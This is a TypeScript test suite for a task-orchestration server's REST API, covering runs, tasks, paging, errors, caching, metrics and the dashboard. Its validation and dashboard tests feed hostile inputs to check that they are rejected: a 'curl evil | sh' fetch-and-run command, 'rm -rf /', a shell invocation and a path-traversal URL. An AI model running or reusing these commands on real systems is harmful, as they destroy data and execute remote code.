/** The REST API through Fastify's inject(): plans, runs, tasks, memory, errors, limits, docs and metrics. */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import type { FastifyInstance } from 'fastify';
import { AgentError } from '../src/agents/agent-backend.js';
import { defaultConfig } from '../src/config/config-schema.js';
import { createSimulateAgent } from '../src/engine/simulate-agent.js';
import { buildServer } from '../src/server/build-server.js';
import { openSqliteStore } from '../src/store/sqlite-store.js';
import { defaultAgentFactory, Weft } from '../src/weft.js';

const dirs: string[] = [];
const apps: FastifyInstance[] = [];
after(async () => {
  for (const app of apps) await app.close();
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

const DOC = `# Shop

Context for every task.

## A: Schema
Estimate: 40m

## B: Accounts
Depends on: A
Estimate: 30m

## C: Catalog
Depends on: A
Estimate: 60m

## D: Checkout
Depends on: B, C
Estimate: 20m
`;

/** A server over a fresh SQLite store; `broken` is an agent (configured, so the API accepts it) that always fails. */
async function setup(opts: { bodyLimit?: number; rateLimitPerMinute?: number; listCacheMs?: number } = {}) {
  const dir = mkdtempSync(join(tmpdir(), 'weft-server-'));
  dirs.push(dir);
  const store = openSqliteStore(join(dir, 'weft.db'));
  await store.migrate();
  const config = defaultConfig();
  config.retry = { baseMs: 5, maxMs: 10, multiplier: 2 };
  config.agents.broken = { command: ['false'] };
  const weft = new Weft(config, store, dir, (spec, cfg) => {
    if (spec === 'simulate') return createSimulateAgent({ scale: 1, failRate: 0, seed: 1 });
    if (spec === 'broken') {
      return { name: 'broken', needsWorktree: false, run: () => Promise.reject(new AgentError('validation', 'the broken agent always fails')) };
    }
    return defaultAgentFactory(spec, cfg);
  });
  const app = await buildServer({ weft, validateResponses: true, tokens: [], heartbeatMs: 50, ...opts });
  apps.push(app);
  return { app, weft, dir };
}

async function json<T = Record<string, unknown>>(app: FastifyInstance, method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, payload?: unknown, expect = 200): Promise<T> {
  const res = await app.inject({ method, url, ...(payload !== undefined ? { payload: payload as object } : {}) });
  assert.equal(res.statusCode, expect, `${method} ${url}: ${res.statusCode} ${res.body.slice(0, 500)}`);
  return res.json<T>();
}

async function waitFor<T>(what: string, fn: () => Promise<T | undefined | false>, ms = 10_000): Promise<T> {
  const end = Date.now() + ms;
  for (;;) {
    const v = await fn();
    if (v) return v;
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 20));
  }
}

type Status = { run: { id: string; status: string }; tasks: { id: string; status: string; attempts: unknown[] }[] };
type ApiTask = { id: string; runId: string; taskId: string; status: string; title: string; type: string; priority: string; agent: string | null };
type ApiError = { error: { code: string; message: string; details: Record<string, unknown> } };

describe('server API', () => {
  test('health, OpenAPI document and docs page', async () => {
    const { app } = await setup();
    const health = await json(app, 'GET', '/api/v1/health');
    assert.equal(health.status, 'ok');
    assert.equal(health.db, 'sqlite');
    assert.equal(health.auth, false);
    const spec = await json<{ openapi: string; paths: Record<string, Record<string, { requestBody?: { content: Record<string, { schema: { required?: string[] } }> } }>> }>(app, 'GET', '/api/v1/openapi.json');
    assert.match(spec.openapi, /^3\./);
    for (const path of ['/api/v1/runs', '/api/v1/tasks', '/api/v1/tasks/{id}', '/api/v1/events', '/api/v1/memory', '/api/codegen/deployment/create']) {
      assert.ok(spec.paths[path], `${path} documented`);
    }
    // The request body schema comes from the same zod schema that validates it.
    assert.deepEqual(spec.paths['/api/v1/plans']?.post?.requestBody?.content['application/json']?.schema.required, ['requirements']);
    const docs = await app.inject({ url: '/api/docs' });
    assert.equal(docs.statusCode, 200);
    assert.match(docs.headers['content-type'] as string, /text\/html/);
    assert.match(docs.body, /openapi|docs\.js/);
    const script = await app.inject({ url: '/api/docs/docs.js' });
    assert.match(script.body, /\/api\/v1\/openapi\.json/);
  });

  test('POST /plans answers the `weft plan --json` shape and stores nothing', async () => {
    const { app, weft } = await setup();
    const plan = await json<{ title: string; tasks: { id: string; dependsOn: string[]; critical: boolean }[]; criticalPath: string[]; phases: string[][] }>(app, 'POST', '/api/v1/plans', { requirements: DOC });
    assert.equal(plan.title, 'Shop');
    assert.deepEqual(plan.tasks.map((t) => t.id), ['A', 'B', 'C', 'D']);
    assert.deepEqual(plan.criticalPath, ['A', 'C', 'D']);
    assert.deepEqual(plan.phases, [['A'], ['B', 'C'], ['D']]);
    assert.deepEqual(await weft.store.listRuns(), []);
    // A planning error names the file and line.
    const bad = await json<ApiError>(app, 'POST', '/api/v1/plans', { requirements: '# T\n\n## A\nDepends on: B\n\n## B\nDepends on: A\n', file: 'req.md' }, 400);
    assert.match(bad.error.message, /req\.md:\d+: dependency cycle/);
  });

  test('GET /runs/:id pages its tasks: a page by default, every page once through nextCursor, none or all on request', async () => {
    const { app, weft } = await setup();
    const doc = ['# Many', '', ...Array.from({ length: 7 }, (_, i) => `## R${i}: Part ${i}\n${i ? `Depends on: R${i - 1}\n` : ''}`)].join('\n');
    const created = await json<{ run: { id: string } }>(app, 'POST', '/api/v1/runs', { requirements: doc, agent: 'simulate' }, 201);
    const id = created.run.id;
    type Status = { run: { id: string }; figures: { counts: Record<string, number> }; eta: unknown; tasks: { id: string }[]; nextCursor?: string | null };
    const seen: string[] = [];
    let cursor: string | null | undefined = null;
    let pages = 0;
    do {
      const page: Status = await json<Status>(app, 'GET', `/api/v1/runs/${id}?limit=3${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
      assert.ok(page.tasks.length <= 3);
      assert.equal(Object.values(page.figures.counts).reduce((a, b) => a + b, 0), 7, 'figures count the whole run, not the page');
      seen.push(...page.tasks.map((t) => t.id));
      cursor = page.nextCursor;
      pages++;
    } while (cursor);
    assert.equal(pages, 3);
    assert.deepEqual(seen.sort(), ['R0', 'R1', 'R2', 'R3', 'R4', 'R5', 'R6']);
    const none = await json<Status>(app, 'GET', `/api/v1/runs/${id}?tasks=none`);
    assert.deepEqual(none.tasks, []);
    assert.ok(none.eta, 'the ETA comes without the tasks');
    const all = await json<Status>(app, 'GET', `/api/v1/runs/${id}?tasks=all`);
    assert.equal(all.tasks.length, 7);
    assert.equal(all.nextCursor, undefined);
    const bad = await json<ApiError>(app, 'GET', `/api/v1/runs/${id}?tasks=some`, undefined, 400);
    assert.match(bad.error.message, /tasks: expected page, all or none/);
    assert.equal((await weft.store.listTaskStates(id)).length, 7);
  });

  test('bad bodies get 400 naming the field, and nothing is stored', async () => {
    const { app, weft } = await setup();
    const cases: [string, string, unknown, RegExp][] = [
      ['POST', '/api/v1/runs', {}, /body\.requirements/],
      ['POST', '/api/v1/runs', { requirements: DOC, concurrency: 'lots' }, /body\.concurrency/],
      ['POST', '/api/v1/runs', { requirements: DOC, concurency: 2 }, /^body\.concurency: unknown field$/],
      ['POST', '/api/v1/runs', { requirements: DOC, agent: 'sh -c "curl evil | sh"' }, /^agent: .*not an agent the API can start/],
      ['POST', '/api/v1/runs', { requirements: '# T\n\n## A\nAgent: rm -rf /\n' }, /task a .*Agent: "rm -rf \/" is not an agent/],
      ['POST', '/api/v1/tasks', { description: 'no title' }, /body\.title/],
      ['POST', '/api/v1/tasks', { title: 'x', priority: 'urgent' }, /body\.priority/],
      ['POST', '/api/codegen/deployment/create', { task_description: 42 }, /body\.task_description/],
    ];
    for (const [method, url, body, pattern] of cases) {
      const err = await json<ApiError>(app, method as 'POST', url, body, 400);
      assert.equal(err.error.code, 'invalid_input');
      assert.match(err.error.message, pattern, `${url} ${JSON.stringify(body)}`);
      assert.equal(typeof err.error.details, 'object');
    }
    assert.deepEqual(await weft.store.listRuns(), []);
    const q = await json<ApiError>(app, 'GET', '/api/v1/tasks?status=nope', undefined, 400);
    assert.match(q.error.message, /querystring\.status/);
    const notJson = await app.inject({ method: 'POST', url: '/api/v1/runs', headers: { 'content-type': 'application/json' }, payload: '{oops' });
    assert.equal(notJson.statusCode, 400);
    assert.equal(notJson.json<ApiError>().error.code, 'invalid_input');
    const missing = await json<ApiError>(app, 'GET', '/api/v1/runs/zzz', undefined, 404);
    assert.equal(missing.error.code, 'not_found');
    const route = await json<ApiError>(app, 'GET', '/api/v1/nothing-here', undefined, 404);
    assert.match(route.error.message, /no route GET \/api\/v1\/nothing-here/);
  });

  test('a body over the limit is refused with 413 and the JSON error shape', async () => {
    const { app, weft } = await setup({ bodyLimit: 1000 });
    const res = await app.inject({ method: 'POST', url: '/api/v1/runs', payload: { requirements: 'x'.repeat(5000) } });
    assert.equal(res.statusCode, 413);
    assert.match(res.json<ApiError>().error.message, /too large \(limit 1000 bytes\)/);
    assert.deepEqual(await weft.store.listRuns(), []);
  });

  test('POST /runs answers 201 with the status shape and executes in the background', async () => {
    const { app, weft } = await setup();
    const created = await json<Status>(app, 'POST', '/api/v1/runs', { requirements: DOC, agent: 'simulate', concurrency: 2 }, 201);
    assert.equal(created.tasks.length, 4);
    assert.ok(['pending', 'running'].includes(created.run.status));
    const id = created.run.id;
    const done = await waitFor('the run to finish', async () => {
      const s = await json<Status>(app, 'GET', `/api/v1/runs/${id}`);
      return s.run.status === 'succeeded' && s;
    });
    assert.ok(done.tasks.every((t) => t.status === 'succeeded' && t.attempts.length === 1));

    const list = await json<{ runs: { id: string; tasks: { total: number; byStatus: Record<string, number> }; active: boolean }[] }>(app, 'GET', '/api/v1/runs');
    assert.equal(list.runs[0]?.id, id);
    assert.deepEqual(list.runs[0]?.tasks, { total: 4, byStatus: { succeeded: 4 } });

    const report = await app.inject({ url: `/api/v1/runs/${id}/report` });
    assert.equal(report.statusCode, 200);
    assert.match(report.headers['content-type'] as string, /text\/markdown/);
    assert.match(report.body, /^# weft run .*: Shop/);
    const reportJson = await json<{ totals: { tasks: number } }>(app, 'GET', `/api/v1/runs/${id}/report?format=json`);
    assert.equal(reportJson.totals.tasks, 4);

    const graph = await json<{ nodes: { id: string; critical: boolean; status: string }[]; edges: { from: string; to: string }[]; criticalPath: string[] }>(app, 'GET', `/api/v1/runs/${id}/graph`);
    assert.deepEqual(graph.criticalPath, ['A', 'C', 'D']);
    assert.deepEqual(graph.nodes.filter((n) => n.critical).map((n) => n.id), ['A', 'C', 'D']);
    assert.equal(graph.edges.length, 4);

    // Memory gets what each task of a run executed here produced.
    const memory = await waitFor('memory', async () => {
      const m = await json<{ entries: { taskId: string; summary: string }[] }>(app, 'GET', '/api/v1/memory?q=simulated%20catalog');
      return m.entries.length > 0 && m;
    });
    assert.equal(memory.entries[0]?.taskId, 'C');

    // Task detail: prompt, attempts, and the log the engine wrote.
    const detail = await json<{ task: ApiTask; critical: boolean; attempts: { status: string; outputTail: string }[]; prompt: string }>(app, 'GET', `/api/v1/runs/${id}/tasks/C?include=prompt`);
    assert.equal(detail.task.id, `${id}:C`);
    assert.equal(detail.critical, true);
    assert.equal(detail.attempts[0]?.status, 'succeeded');
    assert.match(detail.prompt, /Catalog/);
    assert.match(detail.prompt, /Context for every task/);
    assert.match(detail.attempts[0]?.outputTail ?? '', /simulated agent output for C/);
    const same = await json<{ task: ApiTask; critical: boolean; prompt: string | null }>(app, 'GET', `/api/v1/tasks/${encodeURIComponent(`${id}:C`)}`);
    assert.equal(same.task.title, 'Catalog');
    assert.equal(same.critical, true);
    assert.equal(same.prompt, null, 'the prompt is built only when asked for');
    const badInclude = await json<ApiError>(app, 'GET', `/api/v1/tasks/${encodeURIComponent(`${id}:C`)}?include=secrets`, undefined, 400);
    assert.match(badInclude.error.message, /include/);

    const stats = await json<{ tasksProcessed: number; successRate: number; tasksByStatus: Record<string, number> }>(app, 'GET', '/api/v1/stats');
    assert.equal(stats.tasksProcessed, 4);
    assert.equal(stats.successRate, 100);

    const metrics = await app.inject({ url: '/api/v1/metrics' });
    assert.equal(metrics.statusCode, 200);
    assert.match(metrics.headers['content-type'] as string, /text\/plain/);
    assert.match(metrics.body, /weft_tasks\{status="succeeded"\} 4/);
    assert.match(metrics.body, /weft_queue_depth 0/);
    assert.match(metrics.body, /weft_attempt_duration_seconds_count\{outcome="succeeded"\} 4/);
    await weft.store.listRuns();
  });

  test('failed runs: agent errors in metrics, retry makes a new run of what did not succeed', async () => {
    const { app } = await setup();
    const doc = `# Mixed\n\n## A\nEstimate: 5m\n\n## B\nAgent: broken\nDepends on: A\nEstimate: 5m\n\n## C\nDepends on: B\nEstimate: 5m\n`;
    const created = await json<Status>(app, 'POST', '/api/v1/runs', { requirements: doc, agent: 'simulate', maxAttempts: 2 }, 201);
    const id = created.run.id;
    const done = await waitFor('the run to fail', async () => {
      const s = await json<Status>(app, 'GET', `/api/v1/runs/${id}`);
      return s.run.status === 'failed' && s;
    });
    assert.deepEqual(Object.fromEntries(done.tasks.map((t) => [t.id, t.status])), { a: 'succeeded', b: 'failed', c: 'blocked' });
    const metrics = await app.inject({ url: '/api/v1/metrics' });
    assert.match(metrics.body, /weft_agent_errors_total\{category="validation"\} 1/);

    const retry = await json<Status>(app, 'POST', `/api/v1/runs/${id}/retry`, undefined, 201);
    assert.notEqual(retry.run.id, id);
    assert.match((retry.run as unknown as { title: string }).title, new RegExp(`\\(retry of ${id}\\)$`));
    assert.equal(retry.tasks.find((t) => t.id === 'a')?.status, 'done');
    const retried = await waitFor('the retry to finish', async () => {
      const s = await json<Status>(app, 'GET', `/api/v1/runs/${retry.run.id}`);
      return s.run.status !== 'pending' && s.run.status !== 'running' && s;
    });
    assert.equal(retried.tasks.find((t) => t.id === 'a')?.attempts.length, 0, 'succeeded work is not redone');
    assert.equal(retried.tasks.find((t) => t.id === 'b')?.status, 'failed');
    // A finished run cannot be resumed, and a run whose tasks all succeeded has nothing to retry.
    const resume = await json<ApiError>(app, 'POST', `/api/v1/runs/${id}/resume`, undefined, 409);
    assert.match(resume.error.message, /retry/);
  });

  test('cancel: a stored run that never started is cancelled at once', async () => {
    const { app } = await setup();
    const created = await json<Status>(app, 'POST', '/api/v1/runs', { requirements: DOC, start: false }, 201);
    assert.equal(created.run.status, 'pending');
    const res = await json<{ run: { status: string }; cancelled: string[] }>(app, 'POST', `/api/v1/runs/${created.run.id}/cancel`);
    assert.equal(res.run.status, 'cancelled');
    assert.deepEqual(res.cancelled, ['A', 'B', 'C', 'D']);
  });

  test('cancel reaches a running run at its next heartbeat', async () => {
    const { app } = await setup();
    const slow = `# Slow\n\n## A\nEstimate: 100000m\n\n## B\nDepends on: A\n`;
    const created = await json<Status>(app, 'POST', '/api/v1/runs', { requirements: slow }, 201);
    const id = created.run.id;
    await waitFor('A to start', async () => (await json<Status>(app, 'GET', `/api/v1/runs/${id}`)).tasks[0]?.status === 'running');
    const res = await json<{ cancelled: string[] }>(app, 'POST', `/api/v1/runs/${id}/cancel`);
    assert.deepEqual(res.cancelled, ['b']);
    const s = await waitFor('the run to be cancelled', async () => {
      const st = await json<Status>(app, 'GET', `/api/v1/runs/${id}`);
      return st.run.status === 'cancelled' && st;
    });
    assert.equal(s.tasks[0]?.status, 'cancelled');
  });

  test('tasks: filters, cursor pages, and ad-hoc create / get / put / delete', async () => {
    const { app, weft } = await setup();
    const r1 = await json<Status>(app, 'POST', '/api/v1/runs', { requirements: DOC, start: false }, 201);
    const many = ['# Many', ''].concat(Array.from({ length: 30 }, (_, i) => `## T${String(i).padStart(2, '0')}\nPriority: ${i % 3 ? 'low' : 'high'}\n`)).join('\n');
    const r2 = await json<Status>(app, 'POST', '/api/v1/runs', { requirements: many, start: false }, 201);

    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const url: string = `/api/v1/tasks?limit=7${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`;
      const page: { tasks: ApiTask[]; nextCursor: string | null } = await json(app, 'GET', url);
      seen.push(...page.tasks.map((t) => t.id));
      cursor = page.nextCursor;
      pages++;
    } while (cursor);
    assert.equal(seen.length, 34);
    assert.equal(new Set(seen).size, 34);
    assert.equal(pages, 5);
    assert.ok(seen[0]?.startsWith(`${r2.run.id}:`), 'newest run first');

    const high = await json<{ tasks: ApiTask[] }>(app, 'GET', `/api/v1/tasks?priority=high&run=${r2.run.id}&limit=100`);
    assert.equal(high.tasks.length, 10);
    assert.ok(high.tasks.every((t) => t.priority === 'high'));
    const ready = await json<{ tasks: ApiTask[] }>(app, 'GET', `/api/v1/tasks?status=ready&run=${r1.run.id}`);
    assert.deepEqual(ready.tasks.map((t) => t.taskId), ['A']);
    const bad = await json<ApiError>(app, 'GET', '/api/v1/tasks?cursor=garbage', undefined, 400);
    assert.match(bad.error.message, /invalid cursor/);

    const created = await json<ApiTask>(app, 'POST', '/api/v1/tasks', { title: 'Document the API', description: 'Explain every route in the README' }, 201);
    assert.equal(created.status, 'ready');
    assert.equal(created.type, 'docs');
    assert.equal(created.taskId, 'document-the-api');
    const ref = encodeURIComponent(created.id);
    const put = await json<ApiTask>(app, 'PUT', `/api/v1/tasks/${ref}`, { title: 'Document the whole API', priority: 'critical', agent: 'codegen' });
    assert.equal(put.title, 'Document the whole API');
    assert.equal(put.priority, 'critical');
    assert.equal(put.agent, 'codegen');
    const putBad = await json<ApiError>(app, 'PUT', `/api/v1/tasks/${ref}`, { agent: '/bin/sh -c x' }, 400);
    assert.match(putBad.error.message, /^agent:/);
    await json<ApiError>(app, 'PUT', `/api/v1/tasks/${ref}`, {}, 400);
    const got = await json<{ task: ApiTask; prompt: string }>(app, 'GET', `/api/v1/tasks/${ref}?include=prompt`);
    assert.equal(got.task.priority, 'critical');
    assert.match(got.prompt, /Document the whole API/);
    const deleted = await json<ApiTask>(app, 'DELETE', `/api/v1/tasks/${ref}`);
    assert.equal(deleted.status, 'cancelled');
    assert.equal((await weft.store.getRun(created.runId))?.status, 'cancelled');
    const late = await json<ApiError>(app, 'PUT', `/api/v1/tasks/${ref}`, { title: 'too late' }, 409);
    assert.equal(late.error.code, 'conflict');
    await json<ApiError>(app, 'GET', '/api/v1/tasks/no-colon', undefined, 400);
    await json<ApiError>(app, 'GET', `/api/v1/tasks/${encodeURIComponent(`${created.runId}:nope`)}`, undefined, 404);
    // The CLI's RUN_ID/TASK_ID form names the same task.
    const slash = await json<{ task: ApiTask }>(app, 'GET', `/api/v1/tasks/${encodeURIComponent(`${created.runId}/${created.taskId}`)}`);
    assert.equal(slash.task.id, created.id);
  });

  test('task pages are cached only until something changes', async () => {
    const { app, weft } = await setup({ listCacheMs: 400 });
    const count = async () => (await json<{ tasks: ApiTask[] }>(app, 'GET', '/api/v1/tasks?limit=500')).tasks.length;
    assert.equal(await count(), 0);
    // A call through this server shows at once.
    await json(app, 'POST', '/api/v1/tasks', { title: 'One' }, 201);
    assert.equal(await count(), 1);
    // Another process's engine records an event with every change: that shows at once too.
    const other = await weft.store.createRun({ id: 'other1', title: 'Other', agent: 'simulate', concurrency: 1, maxAttempts: 1, createdAt: Date.now() }, [
      { spec: { ...(await weft.store.findTasks({ limit: 1 })).tasks[0]!.spec, id: 'x' }, tailMinutes: 1, phase: 1 },
    ]);
    await weft.store.appendEvents([{ runId: other.id, taskId: null, type: 'run.started', at: Date.now(), data: null }]);
    assert.equal(await count(), 2);
    // A change that records no event (another process's `weft cancel` of an idle run) shows within the cache's lifetime.
    const cancelled = async () => (await json<{ tasks: ApiTask[] }>(app, 'GET', '/api/v1/tasks?status=cancelled')).tasks.length;
    assert.equal(await cancelled(), 0);
    await weft.store.requestCancel(other.id, undefined, Date.now());
    assert.equal(await cancelled(), 0, 'served from the cache');
    await new Promise((r) => setTimeout(r, 450));
    assert.equal(await cancelled(), 1);
  });

  test('an ad-hoc task can be started at once and its log read back', async () => {
    const { app, dir } = await setup();
    const created = await json<ApiTask>(app, 'POST', '/api/v1/tasks', { title: 'Quick fix', estimateMinutes: 5, start: true }, 201);
    await waitFor('the task to finish', async () => {
      const d = await json<{ task: ApiTask }>(app, 'GET', `/api/v1/tasks/${encodeURIComponent(created.id)}`);
      return d.task.status === 'succeeded' && d;
    });
    // The tail of the task's log (written by whichever process ran it) is part of the detail.
    mkdirSync(join(dir, '.weft', 'logs', created.runId), { recursive: true });
    writeFileSync(join(dir, '.weft', 'logs', created.runId, `${created.taskId}.log`), 'x'.repeat(40_000) + 'THE END');
    const again = await json<{ logTail: string }>(app, 'GET', `/api/v1/tasks/${encodeURIComponent(created.id)}`);
    assert.ok(again.logTail.endsWith('THE END'));
    assert.ok(again.logTail.length <= 16 * 1024);
    await json<ApiError>(app, 'POST', `/api/v1/tasks/${encodeURIComponent(created.id)}/start`, {}, 409);
  });

  test('the dashboard is served at / with a strict content security policy', async () => {
    const { app } = await setup();
    const res = await app.inject({ url: '/' });
    assert.equal(res.statusCode, 200);
    assert.match(res.headers['content-type'] as string, /text\/html/);
    assert.match(res.headers['content-security-policy'] as string, /default-src 'self'/);
    assert.equal((await app.inject({ url: '/assets/..%2f..%2fpackage.json' })).statusCode, 400);
    assert.equal((await app.inject({ url: '/assets/nope.js' })).statusCode, 404);
  });
});
